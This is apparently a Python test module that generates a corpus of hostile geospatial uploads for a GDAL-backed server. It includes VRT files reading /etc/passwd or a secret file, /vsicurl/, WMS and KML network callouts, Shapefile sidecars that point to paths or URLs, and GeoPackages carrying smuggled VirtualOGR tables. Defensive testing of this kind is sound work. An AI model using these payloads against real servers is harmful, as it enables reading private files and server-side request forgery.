"""The hostile-upload corpus: files that try to make GDAL read the server's files or the network.

Each case is built at test time, because it must name two things only the test knows: the
port of a listener on 127.0.0.1 that records every connection, and the path of a "secret"
file holding a unique marker. ``python -m tests.hostile.corpus DIR`` writes the same files
(with port 9 and ``/etc/passwd``) into DIR to look at. See tests/hostile/README.md.
"""

from __future__ import annotations

import io
import json
import sqlite3
import sys
import zipfile
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyogrio.raw
import shapely


@dataclass(frozen=True)
class Case:
    """One hostile upload: what it tries, the name it is uploaded under, its bytes."""

    label: str
    filename: str
    data: bytes
    #: ``layer`` form field (a GeoPackage view or virtual table to read).
    layer: str | None = None


def ogr_vrt(source: str, layer: str = "secret", x: str = "x", y: str = "y") -> str:
    """An OGR VRT whose layer reads ``source`` (a path, ``CSV:…`` or ``/vsicurl/…``)."""
    return (
        "<OGRVRTDataSource>"
        f'<OGRVRTLayer name="leak"><SrcDataSource>{source}</SrcDataSource>'
        f"<SrcLayer>{layer}</SrcLayer><GeometryType>wkbPoint</GeometryType>"
        "<LayerSRS>EPSG:4326</LayerSRS>"
        f'<GeometryField encoding="PointFromColumns" x="{x}" y="{y}"/>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )


def raster_vrt(band: str) -> str:
    """A raster VRT over Göteborg (so the extent is plausible) with the given band."""
    return (
        '<VRTDataset rasterXSize="16" rasterYSize="4"><SRS>EPSG:3006</SRS>'
        "<GeoTransform>319000, 10, 0, 6400000, 0, -10</GeoTransform>"
        f"{band}</VRTDataset>"
    )


def raw_band(path: str) -> str:
    """Bytes of ``path`` as pixels (VRTRawRasterBand)."""
    return (
        '<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">'
        f'<SourceFilename relativeToVRT="0">{path}</SourceFilename>'
        "<ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>16</LineOffset>"
        "</VRTRasterBand>"
    )


def simple_band(path: str) -> str:
    """Pixels of another raster dataset at ``path`` (a file or a URL)."""
    return (
        '<VRTRasterBand dataType="Byte" band="1"><SimpleSource>'
        f'<SourceFilename relativeToVRT="0">{path}</SourceFilename><SourceBand>1</SourceBand>'
        "</SimpleSource></VRTRasterBand>"
    )


def _zip(members: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data.encode() if isinstance(data, str) else data)
    return buffer.getvalue()


def _shapefile(workdir: Path) -> dict[str, bytes]:
    """The parts of a real one-point Shapefile (SWEREF 99 TM), written by GDAL."""
    target = workdir / "shape" / "punkter.shp"
    target.parent.mkdir(parents=True, exist_ok=True)
    pyogrio.raw.write(
        str(target),
        geometry=np.array([shapely.to_wkb(shapely.Point(674_000, 6_580_000))], dtype=object),
        field_data=[np.array(["a"], dtype=object)],
        fields=["namn"],
        crs="EPSG:3006",
        driver="ESRI Shapefile",
        geometry_type="Point",
    )
    return {p.suffix: p.read_bytes() for p in target.parent.iterdir()}


def _geopackage(workdir: Path, name: str, statements: list[str], application_id: bool) -> bytes:
    """A real GeoPackage (written by GDAL) with ``statements`` forced into its schema."""
    path = workdir / name
    pyogrio.raw.write(
        str(path),
        geometry=np.array([shapely.to_wkb(shapely.Point(18.07, 59.33))], dtype=object),
        field_data=[np.array(["a"], dtype=object)],
        fields=["namn"],
        crs="EPSG:4326",
        driver="GPKG",
        geometry_type="Point",
        layer="punkter",
    )
    with closing(sqlite3.connect(path)) as db:
        # The schema is edited directly: SQLite would refuse to create these objects itself
        # (a view may not name another database; VirtualOGR is GDAL's module, not Python's).
        db.execute("PRAGMA writable_schema = ON")
        for sql in statements:
            db.execute(sql)
        if not application_id:
            db.execute("PRAGMA application_id = 0")
        db.commit()
    return path.read_bytes()


def _geopackage_with_wal(workdir: Path, statements: list[str]) -> bytes:
    """A zip of a clean GeoPackage and a ``-wal`` file that adds ``statements`` when replayed."""
    clean = workdir / "wal.gpkg"
    clean.write_bytes(_geopackage(workdir, "wal-base.gpkg", [], True))
    with closing(sqlite3.connect(clean)) as db:
        db.execute("PRAGMA journal_mode = WAL")
        db.execute("PRAGMA wal_autocheckpoint = 0")
        db.execute("PRAGMA writable_schema = ON")
        for sql in statements:
            db.execute(sql)
        db.commit()
        # Copied while the connection is open: the changes are only in the -wal file.
        members = {
            "punkter.gpkg": clean.read_bytes(),
            "punkter.gpkg-wal": clean.with_name("wal.gpkg-wal").read_bytes(),
        }
    return _zip(members)


def _schema_row(kind: str, name: str, sql: str) -> str:
    quoted = sql.replace("'", "''")
    return (
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
        f"VALUES ('{kind}', '{name}', '{name}', 0, '{quoted}')"
    )


def _register(layer: str) -> list[str]:
    """Rows that make ``layer`` a feature table of the GeoPackage."""
    return [
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
        f"VALUES ('{layer}', 'features', '{layer}', 4326)",
        f"INSERT INTO gpkg_geometry_columns VALUES ('{layer}', 'geom', 'POINT', 4326, 0, 0)",
    ]


def build(port: int, secret: Path, workdir: Path) -> list[Case]:
    """Every hostile case, aimed at ``127.0.0.1:port`` and at the file ``secret``."""
    url = f"http://127.0.0.1:{port}"
    shp = _shapefile(workdir)
    csv_secret = ogr_vrt(str(secret), layer=secret.stem)
    passwd = ogr_vrt("CSV:/etc/passwd", layer="passwd", x="field_3", y="field_4")
    vsicurl = ogr_vrt(f"/vsicurl/{url}/points.csv", layer="points")
    vrt_pixels = raster_vrt(raw_band(str(secret)))
    attach_view = _schema_row("view", "leak", "CREATE VIEW leak AS SELECT * FROM other.t")
    virtual = _schema_row(
        "table", "leak", f"CREATE VIRTUAL TABLE leak USING VirtualOGR('{secret}')"
    )
    cases = [
        Case("OGR VRT of CSV:/etc/passwd as .csv", "punkter.csv", passwd.encode()),
        Case("OGR VRT of the secret file as .geojson", "punkter.geojson", csv_secret.encode()),
        Case("OGR VRT of the secret file as .json", "punkter.json", csv_secret.encode()),
        Case("OGR VRT of /vsicurl/ as .geojson", "net.geojson", vsicurl.encode()),
        Case("OGR VRT as .kml", "punkter.kml", csv_secret.encode()),
        Case("OGR VRT as .fgb", "punkter.fgb", csv_secret.encode()),
        Case("raster VRT of the secret's bytes as .tif", "hojd.tif", vrt_pixels.encode()),
        Case("raster VRT of the secret's bytes as .hgt", "N57E011.hgt", vrt_pixels.encode()),
        Case(
            "raster VRT of /vsicurl/ as .tif",
            "ortofoto.tif",
            raster_vrt(simple_band(f"/vsicurl/{url}/x.tif")).encode(),
        ),
        Case(
            "GDAL WMS description as .tif",
            "karta.tif",
            f"<GDAL_WMS><Service name='TMS'><ServerUrl>{url}/${{z}}/${{x}}/${{y}}.png"
            "</ServerUrl></Service><DataWindow><TileLevel>1</TileLevel></DataWindow>"
            "</GDAL_WMS>".encode(),
        ),
        Case(
            "zip: OGR VRT as the .shp",
            "vrt_shp.zip",
            _zip(
                {"punkter.shp": csv_secret, "punkter.shx": shp[".shx"], "punkter.dbf": shp[".dbf"]}
            ),
        ),
        Case("zip: OGR VRT as .geojson", "vrt_geojson.zip", _zip({"punkter.geojson": csv_secret})),
        Case("zip: OGR VRT as .csv", "vrt_csv.zip", _zip({"punkter.csv": passwd})),
        Case(
            "zip: Shapefile whose .prj is a path",
            "prj_path.zip",
            _zip({**{f"punkter{k}": v for k, v in shp.items()}, "punkter.prj": str(secret)}),
        ),
        Case(
            "zip: Shapefile whose .prj is an OGR VRT",
            "prj_vrt.zip",
            _zip({**{f"punkter{k}": v for k, v in shp.items()}, "punkter.prj": csv_secret}),
        ),
        Case(
            "zip: Shapefile whose .prj is a URL",
            "prj_url.zip",
            _zip({**{f"punkter{k}": v for k, v in shp.items()}, "punkter.prj": f"{url}/prj"}),
        ),
        Case(
            "zip: Shapefile whose .cpg is a path",
            "cpg_path.zip",
            _zip({**{f"punkter{k}": v for k, v in shp.items()}, "punkter.cpg": str(secret)}),
        ),
        Case(
            "zip: CSV whose .prj is a URL",
            "csv_prj.zip",
            _zip({"punkter.csv": "x,y\n18.07,59.33\n", "punkter.prj": f"{url}/prj"}),
        ),
        Case(
            "GeoPackage: a view over an ATTACHed database",
            "attach.gpkg",
            _geopackage(workdir, "attach.gpkg", [attach_view, *_register("leak")], True),
            layer="leak",
        ),
        Case(
            "GeoPackage: a VirtualOGR table reading the secret",
            "virtual.gpkg",
            _geopackage(workdir, "virtual.gpkg", [virtual, *_register("leak")], True),
            layer="leak",
        ),
        Case(
            "SQLite (not a GeoPackage) with a VirtualOGR table, as .gpkg",
            "plain.gpkg",
            _geopackage(workdir, "plain.gpkg", [virtual, *_register("leak")], False),
            layer="leak",
        ),
        Case(
            "zip: clean GeoPackage whose -wal file adds a VirtualOGR table",
            "wal.zip",
            _geopackage_with_wal(workdir, [virtual, *_register("leak")]),
            layer="leak",
        ),
        Case(
            "SQLite with a VirtualOGR table, as .sqlite",
            "plain.sqlite",
            _geopackage(workdir, "plain2.gpkg", [virtual], False),
        ),
        Case(
            "KML with a NetworkLink",
            "natverk.kml",
            (
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
                f"<NetworkLink><name>mer</name><Link><href>{url}/more.kml</href></Link>"
                "</NetworkLink><Placemark><name>p</name>"
                "<Point><coordinates>18.07,59.33</coordinates></Point></Placemark>"
                "</Document></kml>"
            ).encode(),
        ),
        Case(
            "GeoJSON whose crs is a link to a URL",
            "crs_link.geojson",
            _geojson_with_crs({"type": "link", "properties": {"href": f"{url}/crs"}}),
        ),
        Case(
            "GDAL pipeline (GDALG) as .geojson",
            "pipeline.geojson",
            json.dumps(
                {
                    "type": "gdal_streamed_alg",
                    "command_line": f"gdal vector pipeline ! read {secret} ! write streamed",
                }
            ).encode(),
        ),
    ]
    return cases


def _geojson_with_crs(crs: dict[str, object]) -> bytes:
    feature = {
        "type": "Feature",
        "properties": {"namn": "a"},
        "geometry": {"type": "Point", "coordinates": [18.07, 59.33]},
    }
    return json.dumps({"type": "FeatureCollection", "crs": crs, "features": [feature]}).encode()


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for case in build(9, Path("/etc/passwd"), out):
        (out / case.filename).write_bytes(case.data)
        print(f"{case.filename:24} {case.label}")
